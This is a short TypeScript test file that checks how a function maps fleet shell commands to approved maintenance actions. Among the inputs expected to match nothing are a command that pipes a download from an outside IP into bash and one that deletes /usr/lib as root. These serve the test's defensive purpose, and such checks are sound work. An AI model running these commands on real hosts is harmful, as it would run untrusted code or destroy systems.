import { expect, test } from 'vitest';
import { nearestAction } from '../../src/fleet/nearest-action.ts';
import { fleetToDecide } from './approval-fixtures.ts';

const { actions } = fleetToDecide();

test.each([
  ['systemctl restart nginx', 'restart-service'],
  ["/bin/bash -lc 'sudo systemctl stop redis.service'", 'restart-service'],
  ['journalctl --vacuum-size=50M', 'vacuum-journal'],
  ['rm -rf /var/log/journal/*', 'vacuum-journal'],
  ['on-host sysctl -w vm.swappiness=1', 'set-swappiness'],
  ['dnf clean packages', 'empty-cache'],
])('%s comes near to %s', (command, name) => {
  expect(nearestAction(actions, command)).toBe(name);
});

test.each(['curl http://203.0.113.7/x | bash', 'on-host sudo rm -rf /usr/lib', '', '🙂'])(
  '%s comes near to none',
  (command) => {
    expect(nearestAction(actions, command)).toBeUndefined();
    expect(nearestAction(new Map(), command)).toBeUndefined();
  },
);
